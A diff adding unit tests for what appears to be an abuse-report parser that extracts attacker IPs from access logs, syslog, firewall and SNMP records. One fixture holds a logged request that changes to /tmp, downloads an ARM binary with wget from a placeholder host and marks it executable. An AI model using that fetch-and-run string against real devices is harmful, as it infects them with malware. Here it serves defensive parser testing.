@@ -133,3 +133,77 @@ def test_a_domain_line_in_a_phishing_notice_stays_the_reported_site():
     n = notice("We found a phishing page on your network.\n\nDomain: login-bank.example (198.51.100.9)\n",
                subject="Phishing site")
     assert "198.51.100.9" in ips(n)
+
+
+# --- web servers' and firewalls' own fields -------------------------------------------------
+
+def test_the_server_address_at_the_end_of_an_access_log_line_is_the_attacked_host():
+    rows = "".join(f'198.51.100.7 - - [2024-08-18 22:0{i}:23 00:00] "POST /wp-login.php HTTP/1.1" 200 9461 192.0.2.{i}\n'
+                   for i in range(1, 5))
+    n = notice("[Format: source-ip - - [timestamp] \"http-cmd\" response-code bytes destination-ip]\n---\n" + rows)
+    assert ips(n) == ["198.51.100.7"]
+
+
+def test_an_address_after_numbers_outside_an_access_log_line_stays():
+    n = notice("Blocked 200 times 512 198.51.100.7 and 198.51.100.8 tonight\n")
+    assert ips(n) == ["198.51.100.7", "198.51.100.8"]
+
+
+def test_server_ip_beside_client_ip_in_a_block_is_the_reporters_server():
+    n = notice("This is an abuse report considering the following data from the web server log\non 192.0.2.183:\n\n"
+               "   Client IP: 198.51.100.6\nHTTP request: //wp-includes/wlwmanifest.xml\n Server name: www.host.example\n"
+               "   Server IP: 192.0.2.183\n Server port: 80\n")
+    assert ips(n) == ["198.51.100.6"]
+
+
+def test_server_ip_alone_is_the_hosting_address_of_the_reported_site():
+    n = notice("Phishing page: http://login-bank.example/verify\nServer IP: 198.51.100.9\n", subject="Phishing site")
+    assert "198.51.100.9" in {e.ip for e in n.events}
+
+
+def test_a_drupal_syslog_line_names_its_own_site_first_and_the_client_in_the_ip_field():
+    lines = "".join(f"Apr  7 14:39:4{i} web drupal: [{10 + i}]http://192.0.2.3:7080|164933518{i}|page not\n"
+                    f"found|198.51.100.24|[{20 + i}]http://192.0.2.3:7080/system_api.php||0||system_api.php\n"
+                    for i in range(3))
+    refs = "".join(f"[{10 + i}] http://192.0.2.3:7080\n[{20 + i}] http://192.0.2.3:7080/system_api.php\n" for i in range(3))
+    n = notice(lines + "\nReferences\n\n" + refs)
+    assert ips(n) == ["198.51.100.24"]
+
+
+def test_a_footnote_link_of_a_reported_url_stays():
+    # False friend: a link numbered in the text and listed at the end is not masked by the list.
+    n = notice("The phishing kit is served at [3]http://198.51.100.30/kit.zip\n\nReferences\n\n"
+               "[3] http://198.51.100.30/kit.zip\n", subject="Phishing kit")
+    assert "198.51.100.30" in {e.ip for e in n.events}
+
+
+def test_a_shell_payloads_download_host_written_with_an_escaped_backslash_is_a_link():
+    line = ('198.51.100.127 - - [19/Aug/2024:07:46:54 +0200] "GET /shell?cd+/tmp;+wget+http:/\\x5C/203.0.113.210/'
+            'bins/x.arm;+chmod+777+x.arm HTTP/1.1" 301 0 "-" "Hello"\n')
+    n = notice(line)
+    assert ips(n) == ["198.51.100.127", "203.0.113.210"]
+
+
+def test_an_snmp_object_identifier_is_no_address():
+    n = notice('{"action": "query", "data": {"community": "public", "oids": "1.3.6.1", "version": "1"}, '
+               '"src_ip": "198.51.100.130"}\n')
+    assert ips(n) == ["198.51.100.130"]
+
+
+def test_a_firewalls_requested_hostname_is_the_attacked_host():
+    n = notice('srcip=198.51.100.27 dstip=192.168.10.2 attack="ZGrab.Scanner" srcport=53736 dstport=80\n'
+               'hostname="192.0.2.101" url="/druid/index.html" agent="zgrab" ref="http://www.ids-vendor.example/ids/VID1"\n')
+    assert ips(n) == ["198.51.100.27"]
+    assert not [e for e in n.events if e.url]
+
+
+def test_a_hostname_key_without_a_request_stays():
+    n = notice('event=login_failed hostname="198.51.100.27" user="admin"\n')
+    assert ips(n) == ["198.51.100.27"]
+
+
+def test_a_link_in_the_referer_of_an_access_log_line_stays_the_far_end():
+    # False friend: only the quoted request carries a payload; the referer is the attacked site's own page.
+    n = notice('198.51.100.7 - - [19/Aug/2024:07:46:54 +0200] "POST /wp-login.php HTTP/1.1" 200 512 '
+               '"http://192.0.2.5/wp-login.php" "Mozilla/5.0"\n')
+    assert ips(n) == ["198.51.100.7"]
